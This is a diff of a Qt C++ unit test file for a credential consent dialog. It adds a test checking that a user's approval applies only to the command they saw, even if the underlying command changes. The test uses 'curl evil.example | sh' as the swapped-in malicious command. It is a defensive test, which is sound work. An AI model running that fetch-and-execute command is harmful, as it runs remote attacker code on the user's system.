@@ -67,6 +67,7 @@ private Q_SLOTS:
     void S12_theWholeCommandIsShown();
     void S12_nothingInACommandHides_data();
     void S12_nothingInACommandHides();
+    void S12_consentIsForWhatWasSeen();
     void S12_theSafeAnswerIsTheDefault();
     void whatIsAnsweredElsewhereGoes();
     void theFileIsShown();
@@ -156,7 +157,7 @@ void TestCredentialDialogs::S12_theWholeCommandIsShown()
     QSignalSpy allowed(m_dialogs.get(), &CredentialDialogs::commandAllowed);
     button(*dialog, u"Run this command"_s)->click();
     QCOMPARE(allowed.size(), 1);
-    QCOMPARE(allowed.first().first().toString(), u"c1"_s);
+    QCOMPARE(allowed.first(), (QVariantList{u"c1"_s, command}));
     QVERIFY(!dialog->isVisible());
 }
 
@@ -176,6 +177,18 @@ void TestCredentialDialogs::S12_nothingInACommandHides()
     QFETCH(QString, command);
     ConsentDialog dialog({u"labeling"_s, command, {}, 0});
     QTEST(dialog.findChild<QPlainTextEdit *>()->toPlainText(), "shown");
+}
+
+void TestCredentialDialogs::S12_consentIsForWhatWasSeen()
+{
+    m_dialogs->setConnections({waitingFor(needError(CredentialNeed::Consent, u"vault"_s))});
+    m_dialogs->signInAgain(u"c1"_s);
+    auto *dialog = m_window->findChild<ConsentDialog *>();
+    QSignalSpy allowed(m_dialogs.get(), &CredentialDialogs::commandAllowed);
+    m_dialogs->setConnections({waitingFor(needError(CredentialNeed::Consent, u"curl evil.example | sh"_s))}); // the file changed
+    button(*dialog, u"Run this command"_s)->click();
+    QCOMPARE(allowed.size(), 1);
+    QCOMPARE(allowed.first(), (QVariantList{u"c1"_s, u"vault"_s}));
 }
 
 void TestCredentialDialogs::S12_theSafeAnswerIsTheDefault()
